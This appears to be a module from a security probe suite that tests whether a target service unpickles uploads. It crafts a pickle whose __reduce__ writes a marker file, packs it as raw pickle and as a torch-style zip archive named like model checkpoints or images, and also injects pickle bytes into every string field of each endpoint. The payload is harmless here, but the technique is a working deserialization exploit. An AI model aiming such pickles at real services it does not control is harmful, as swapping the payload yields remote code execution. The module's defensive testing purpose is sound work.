"""Pickles and code, as a checkpoint's or a picture's file.

Got through: that one was read, seen by the file that it would write; or that it was taken.
"""

import io
import pickle
import tempfile
import zipfile
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

from lit.probes.addresses import UPLOADS, all_of, leaves, put, said
from lit.probes.target import ATTACKER, Probe, Target

NAMES = ("model.pt", "model.bin", "model.ckpt", "model.pkl", "model.pth", "model.safetensors", "a.png", "model.gguf")


class _Writes:
    """What writes a file when it is unpickled."""

    def __init__(self, file: Path):
        self.file = file

    def __reduce__(self):
        return (Path.write_text, (self.file, "read"))


def probes(target: Target) -> Iterator[Probe]:
    with tempfile.TemporaryDirectory(prefix="lit-probe-") as folder:
        mark = Path(folder) / "read"
        for protocol in (0, 2, 4):
            data = pickle.dumps(_Writes(mark), protocol)
            packed = io.BytesIO()
            with zipfile.ZipFile(packed, "w") as archive:  # as torch.save does
                archive.writestr("archive/data.pkl", data)
            for form, content in (("pickle", data), ("torch's archive", packed.getvalue())):
                for name in NAMES:
                    for address in UPLOADS:
                        yield Probe(
                            f"{form}, protocol {protocol}, to /{address} as {name}",
                            lambda a=address, n=name, c=content: _sent(target, a, n, c, mark),
                        )
        for address in all_of(target):
            for way, value in leaves(address.fields):
                if isinstance(value, str):
                    asked = put(address.fields, way, pickle.dumps(_Writes(mark), 0).decode("latin-1"))
                    yield Probe(
                        f"/{address.path} {said(way)} a pickle",
                        lambda path=address.path, asked=asked: _asked(target, path, asked, mark),
                    )


def _sent(target, address, name, content, mark):
    kind = "image/png" if address in ("library/inspect", "drawings/settings") else "application/octet-stream"
    headers = {"Content-Type": kind, "Lit-Visitor": ATTACKER}
    answer = target.ask(f"{address}?name={quote(name)}", body=content, headers=headers)
    return "the pickle was read" if mark.exists() else target.accepted(answer)


def _asked(target, path, asked, mark):
    answer = target.ask(path, asked)
    return "the pickle was read" if mark.exists() else target.wrong(answer)
